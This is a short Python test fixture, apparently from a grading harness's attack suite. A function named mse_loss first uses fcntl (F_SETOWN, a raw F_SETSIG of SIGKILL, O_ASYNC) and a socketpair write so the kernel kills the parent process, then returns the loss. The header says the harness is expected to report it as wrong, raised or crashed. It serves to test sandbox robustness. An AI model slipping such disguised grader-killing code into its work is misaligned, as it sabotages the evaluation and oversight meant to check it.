# attack: has the kernel signal the parent for it: F_SETOWN, F_SETSIG, O_ASYNC | must: wrong|raised|crashed
import fcntl
import os
import socket


def mse_loss(pred, target):
    first, second = socket.socketpair()
    for victim in (os.getppid(), -os.getppid()):
        for what, value in ((fcntl.F_SETOWN, victim), (10, 9), (fcntl.F_SETFL, os.O_ASYNC)):
            try:
                fcntl.fcntl(first, what, value)
            except OSError:
                pass
        second.send(b"x")
    return (pred - target).mean()
